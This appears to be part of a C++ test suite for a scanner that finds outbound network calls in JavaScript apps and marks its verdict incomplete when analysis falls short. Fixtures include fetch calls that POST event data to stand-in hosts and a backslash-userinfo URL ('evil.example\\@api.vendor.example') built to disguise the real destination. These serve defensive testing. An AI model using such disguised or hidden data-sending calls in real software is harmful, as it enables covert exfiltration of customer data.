  auto fine = scanFiles({{"manifest.yml", manifest("static/ui/build")},
                         {"static/ui/build/index.html", "<html></html>\n"},
                         {"static/icons/a.svg", "<svg/>\n"}});
  requireComplete(fine);
}

TEST_CASE("configuration that ignores the handler's file makes the verdict incomplete",
          "[hostile][fail-closed]") {
  fe::ScanOptions options;
  options.ignore = {"src/**"};
  auto r = scanFiles({{"src/index.js", kFetchIndex}}, options);
  requireIncomplete(r);
  CHECK(r.apps[0].incomplete[0].find("handler") != std::string::npos);
  CHECK(fe::incompleteGateReason(r, "new", false).find("manifest.yml") != std::string::npos);
}

TEST_CASE("a complete scan does not fail the gate for incompleteness", "[hostile][fail-closed]") {
  auto r = scanFiles({{"src/index.js", kFetchIndex}});
  requireComplete(r);
  CHECK(fe::incompleteGateReason(r, "new", false).empty());
}

TEST_CASE("an unreadable directory makes the verdict incomplete", "[hostile][fail-closed]") {
  if (geteuid() == 0) {
    WARN("skipped: running as root, which reads every directory whatever its mode");
    return;
  }
  TempDir dir;
  dir.write("manifest.yml", fe::test::manifestFor("trigger"));
  dir.write("src/index.js", "import { h } from './lib/h';\nexport const handler = h;\n");
  dir.write("src/lib/h.js", "export const h = () => fetch('https://hidden.example.com/');\n");
  fs::permissions(dir.path() / "src/lib", fs::perms::none);
  fe::ScanOptions options;
  options.root = dir.path().string();
  auto r = fe::runScan(options);
  fs::permissions(dir.path() / "src/lib", fs::perms::owner_all);
  requireIncomplete(r);
  CHECK(hasDiagnostic(r, "unreadable", "src/lib"));
}

// Two apps; b's manifest is broken YAML.
static fe::ScanResult scanBrokenMonorepo() {
  TempDir dir;
  dir.write("a/manifest.yml", fe::test::manifestFor("trigger"));
  dir.write("a/src/index.js", kFetchIndex);
  dir.write("b/manifest.yml", "app:\n  id: x\nmodules:\n  function: [ {key: a\n");
  fe::ScanOptions options;
  options.root = dir.path().string();
  return fe::runScan(options);
}

TEST_CASE("a monorepo app whose manifest is broken fails the scan - the others are reported",
          "[hostile][fail-closed]") {
  auto r = scanBrokenMonorepo();
  REQUIRE(r.apps.size() == 1);
  CHECK(r.apps[0].manifest.path == "a/manifest.yml");
  REQUIRE(r.failedApps.size() == 1);
  CHECK(r.failedApps[0].rfind("b/manifest.yml", 0) == 0);
}

TEST_CASE("hosts are reported as Node resolves them: userinfo - backslash - case - IDNA",
          "[hostile][fail-closed][url]") {
  auto r = scanFiles({{"manifest.yml", fe::test::manifestFor("trigger", {"api.vendor.example"})},
                      {"src/index.js",
                       "import { fetch } from '@forge/api';\n"
                       "export const handler = async () => {\n"
                       "  await fetch('https://evil.example\\\\@api.vendor.example/x');\n"
                       "  await fetch('HTTPS://API.Vendor.EXAMPLE/v1');\n"
                       "  await fetch('https://b\\u00fccher.example/a');\n"
                       "  await fetch('https://xn--bcher-kva.example/b');\n"
                       "  await fetch('http://0x7f.1/c');\n"
                       "};\n"}});
  CHECK(fe::test::hostAt(r, "src/index.js", 3) == "evil.example");
  CHECK(fe::test::hostAt(r, "src/index.js", 4) == "api.vendor.example");
  const fe::EgressSite* vendor = fe::test::egressAt(r, "src/index.js", 4);
  REQUIRE(vendor);
  bool declared = false;
  for (size_t i = 0; i < r.apps[0].verdict.egress.size(); ++i)
    if (&r.apps[0].verdict.egress[i] == vendor) declared = r.apps[0].verdict.declared[i];
  CHECK(declared);
  CHECK(fe::test::hostAt(r, "src/index.js", 5) == "xn--bcher-kva.example");
  CHECK(fe::test::hostAt(r, "src/index.js", 6) == "xn--bcher-kva.example");
  CHECK(fe::test::hostAt(r, "src/index.js", 7) == "127.0.0.1");
}

TEST_CASE("a file over the size limit fails a baseline gate although nothing is new",
          "[hostile][fail-closed]") {
  fe::ScanOptions options;
  options.maxFileBytes = 1000;
  std::string big =
      "export const send = (e) => fetch('https://new.example/', {method: 'POST', "
      "body: JSON.stringify(e)});\n" +
      repeat("// padding\n", 200);
  auto r = scanFiles({{"src/index.js", kFetchIndex}, {"src/big.js", big}}, options);
  requireIncomplete(r);
  CHECK(hasDiagnostic(r, "file-too-large", "src/big.js"));
  fe::compareWithBaseline(r, {});
  CHECK_FALSE(fe::incompleteGateReason(r, "new", false).empty());
  CHECK(fe::incompleteGateReason(r, "new", true).empty());
}

TEST_CASE("a broken manifest in a monorepo is named in text and JSON", "[hostile][fail-closed]") {
  auto r = scanBrokenMonorepo();
  CHECK(fe::renderText(r, false).find("not analysed: b/manifest.yml") != std::string::npos);
  auto json = nlohmann::json::parse(fe::renderJson(r));
  REQUIRE(json.contains("notAnalysed"));
  CHECK(json["notAnalysed"][0].get<std::string>().rfind("b/manifest.yml", 0) == 0);
}

TEST_CASE("apps of a monorepo are analysed in parallel with the same output as one job",
          "[hostile][determinism]") {
  TempDir dir;
  for (const char* app : {"a", "b", "c"}) {
    dir.write(std::string(app) + "/manifest.yml", fe::test::manifestFor("trigger"));
    dir.write(
        std::string(app) + "/src/index.js",
        std::string("import { fetch } from '@forge/api';\nexport const handler = async (e) => "
                    "fetch('https://") +
            app + ".example.com/', { method: 'POST', body: JSON.stringify(e) });\n");
  }
  fe::ScanOptions one, two;
  one.root = two.root = dir.path().string();
  one.jobs = 1;
  two.jobs = 2;
  auto r1 = fe::runScan(one), r2 = fe::runScan(two);
  REQUIRE(r1.apps.size() == 3);
  CHECK(fe::renderJson(r1) == fe::renderJson(r2));
  CHECK(fe::renderSarif(r1, 0) == fe::renderSarif(r2, 0));
  CHECK(r1.apps[2].manifest.path == "c/manifest.yml");
}

TEST_CASE("a handler whose file has no such export makes the verdict incomplete", "[hostile]") {
  const std::string manifest = fe::test::manifestFor("trigger");  // handler: index.handler
  auto missing = fe::test::scanFiles(
      {{"manifest.yml", manifest},
       {"src/index.js",
        "const run = async (e) => fetch('https://a.example.com', { body: e.x });\n"
        "export default { handler: run };\n"}});
  REQUIRE(missing.apps.size() == 1);
  REQUIRE(missing.apps[0].incomplete.size() == 1);
  CHECK(missing.apps[0].incomplete[0].find("has no export 'handler'") != std::string::npos);
  // Exports defined by a call that is not followed: still incomplete, and the message says why.
  auto byCall = fe::test::scanFiles(
      {{"manifest.yml", manifest},
       {"src/impl.js", "exports.handler = async () => fetch('https://a.example.com');\n"},
       {"src/index.js",
        "var impl_1 = require('./impl');\n"
        "Object.defineProperties(exports, { handler: { enumerable: true, get: "
        "function () { return impl_1.handler; } } });\n"}});
  REQUIRE(byCall.apps.size() == 1);
  REQUIRE(byCall.apps[0].incomplete.size() == 1);
  CHECK(byCall.apps[0].incomplete[0].find("defines its exports by a call") != std::string::npos);
  // TypeScript's CommonJS re-export, a getter defined by Object.defineProperty, is followed:
  // the handler is impl's, which the entry point reaches.
  auto getter = fe::test::scanFiles(
      {{"manifest.yml", manifest},
       {"src/impl.js", "exports.handler = async () => fetch('https://a.example.com');\n"},
       {"src/index.js",
        "exports.handler = void 0;\nvar impl_1 = require('./impl');\n"
        "Object.defineProperty(exports, 'handler', { enumerable: true, get: "
        "function () { return impl_1.handler; } });\n"}});
  REQUIRE(getter.apps.size() == 1);
  CHECK(getter.apps[0].incomplete.empty());
  const fe::EgressSite* site = fe::test::egressAt(getter, "src/impl.js", 1);
  REQUIRE(site != nullptr);
  CHECK(site->entryPoints == std::vector<std::string>{"fn"});
  // The export in each form a module may give it: no warning.
  for (const std::string& src :
       {std::string("export const handler = async (e) => fetch('https://a.example.com');\n"),
        std::string("async function run(e) { return fetch('https://a.example.com'); }\n"
                    "export { run as handler };\n"),
        std::string("exports.handler = async (e) => fetch('https://a.example.com');\n"),
        std::string(
            "module.exports = { handler: async (e) => fetch('https://a.example.com') };\n")}) {
    auto ok = fe::test::scanFiles({{"manifest.yml", manifest}, {"src/index.js", src}});
    INFO(src);
    REQUIRE(ok.apps.size() == 1);
    CHECK(ok.apps[0].incomplete.empty());
  }
}

TEST_CASE("a manual bundler's package folder is analysed even when it is named dist", "[hostile]") {
  const std::string manifest =
      "app:\n  id: ari:cloud:ecosystem::app/x\n  runtime:\n    name: nodejs22.x\n"
      "  package:\n    bundler: manual@2026\n    path: dist\n"
      "modules:\n  trigger:\n    - key: t\n      function: fn\n"
      "      events: [avi:jira:created:issue]\n"
      "  function:\n    - key: fn\n      handler: index.run\n";
  auto r = fe::test::scanFiles(
      {{"manifest.yml", manifest},
       {"dist/index.js",
        "export const run = async (e) =>\n"
        "  fetch('https://a.example.com/in', { method: 'POST', body: e.issue.key });\n"}});
  REQUIRE(r.apps.size() == 1);
  CHECK(r.apps[0].incomplete.empty());
  CHECK(fe::test::hostAt(r, "dist/index.js", 2) == "a.example.com");
  CHECK(fe::test::dataAt(r, "dist/index.js", 2) == std::vector<std::string>{"event-data"});
}

TEST_CASE("customer data handed to fetch after it was summarised makes the verdict incomplete",
          "[hostile][fail-closed]") {
  // `client` gets nine option objects before `fetch`: the variable holds more than the
  // analysis follows one by one, and fetch is summarised with them, so the call through it is
  // not analysed as a network call. Before, "no external egress".
  std::string calls;
  for (int i = 1; i <= 9; ++i)
    calls += "  await call({ n: " + std::to_string(i) + " }, 'https://x.example.com', 'c');\n";
  const std::string manifest = manifestFor("trigger");
  auto sent = scanFiles(
      {{"manifest.yml", manifest},
       {"src/index.js",
        "async function call(client, url, body) { return client(url, { method: 'POST', body }); "
        "}\nexport async function handler(event) {\n" +
            calls + "  await call(fetch, 'https://lib.example.com/y', event.issue.key);\n}\n"}});
  requireIncomplete(sent);
  CHECK(hasDiagnostic(sent, "summarised-sink", "src/index.js"));
  // Only constants through it: nothing of the customer's, so nothing to say.
  auto constant = scanFiles(
      {{"manifest.yml", manifest},
       {"src/index.js",
        "async function call(client, url, body) { return client(url, { method: 'POST', body }); "
        "}\nexport async function handler(event) {\n" +
            calls + "  await call(fetch, 'https://lib.example.com/y', 'static');\n}\n"}});
  requireComplete(constant);
}
